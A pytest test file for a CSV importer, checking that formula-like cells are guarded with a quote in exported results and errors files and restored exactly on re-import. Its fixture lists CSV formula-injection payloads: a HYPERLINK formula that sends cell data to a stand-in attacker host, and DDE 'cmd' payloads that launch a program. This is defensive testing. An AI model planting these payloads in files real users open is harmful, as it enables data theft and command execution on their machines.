"""Formula cells: guarded in the results and errors files people open in Excel, restored
exactly when this tool's own errors file is imported again."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from results_csv import read_results

from importer.cli import main
from importer.loader import open_table
from importer.table import protect_formula, unprotect_formula

MAPPING = (Path(__file__).parent / "fixtures" / "booth_scans.yaml").read_text(encoding="utf-8")
HEADER = ["First Name", "Contact ID", "Event", "Action", "Scan Time", "Booth", "Campaign"]
HOSTILE = {
    '=HYPERLINK("http://evil.example/?"&A1,"x")': '\'=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "'=already quoted": "''=already quoted",
    "-5": "-5",  # a plain number is no formula: it stays a number in Excel
    "+3.5": "+3.5",
    "O'Brien": "O'Brien",
    "'quoted text": "'quoted text",
}


@pytest.mark.parametrize("value", sorted(HOSTILE))
def test_guard_adds_one_quote_only_before_formulas_and_comes_off_exactly(value):
    assert protect_formula(value) == HOSTILE[value]
    assert unprotect_formula(protect_formula(value)) == value


def write_csv(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([HEADER, *rows])
    return path


def raw_lines(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


def test_formula_cells_are_guarded_in_results_and_errors_and_reimport_exactly(tmp_path, sandbox):
    (tmp_path / "map.yaml").write_text(MAPPING, encoding="utf-8")
    values = sorted(HOSTILE)
    rows = [
        # Valid rows: the hostile value in First Name (not sent) and in Booth (sent).
        [value, str(2001 + n), "Spring Expo", "visited", f"03/10/2026 09:{n:02d}", value, "37"]
        for n, value in enumerate(values)
    ] + [
        # Invalid rows (unknown action): they go to the errors file, to be fixed and re-imported.
        [value, str(2050 + n), value, "waved", f"03/11/2026 09:{n:02d}", value, ""]
        for n, value in enumerate(values)
    ]
    data = write_csv(tmp_path / "drop.csv", rows)
    results, errors = tmp_path / "results.csv", tmp_path / "errors.csv"
    common = ["--mapping", str(tmp_path / "map.yaml"), "--quiet", "--ledger", str(tmp_path / "l")]
    args = ["run", str(data), *common, "--results", str(results), "--errors", str(errors)]
    assert main(args) == 1

    for path in (results, errors):
        for line in raw_lines(path)[1:]:
            for cell in line:
                risky = cell.startswith(tuple("=+-@\t\r"))
                assert not risky or cell in ("-5", "+3.5"), (path, cell)
    shown = {line["First Name"] for line in read_results(results).values()}
    assert shown == {HOSTILE[value] for value in values}

    # The errors file, read back by this tool, gives the exact original cells.
    with open_table(errors) as table:
        assert table.header == [*HEADER, "previous error", "source_row"]
        back = [row.cells[: len(HEADER)] for row in table.rows]
    assert sorted(back) == sorted(rows[len(values) :])

    # Fix it as a user would (the action), import it again: exact values reach Eloqua.
    fixed = [
        [*line[:3], "demo", *line[4:]] if line[3] == "waved" else line for line in raw_lines(errors)
    ]
    with errors.open("w", encoding="utf-8-sig", newline="") as file:
        csv.writer(file).writerows(fixed)
    again = ["run", str(errors), *common, "--results", str(tmp_path / "again.csv")]
    assert main(again) == 0
    sent = [a for a in sandbox.state.activities if a["activityType"] == "Viewed a Demo"]
    trimmed = sorted(value.strip() for value in values)  # the mapping trims cells, as always
    assert sorted(a["assetName"] for a in sent) == trimmed
    assert sorted(a["fieldValues"][0]["value"] for a in sent) == trimmed


def test_a_third_party_file_keeps_its_quotes(tmp_path):
    # Only this tool's own results and errors files lose the guard quote on import.
    data = write_csv(tmp_path / "drop.csv", [["'=x", "2001", "E", "visited", "", "'-1", ""]])
    with open_table(data) as table:
        assert next(table.rows).cells[0] == "'=x"
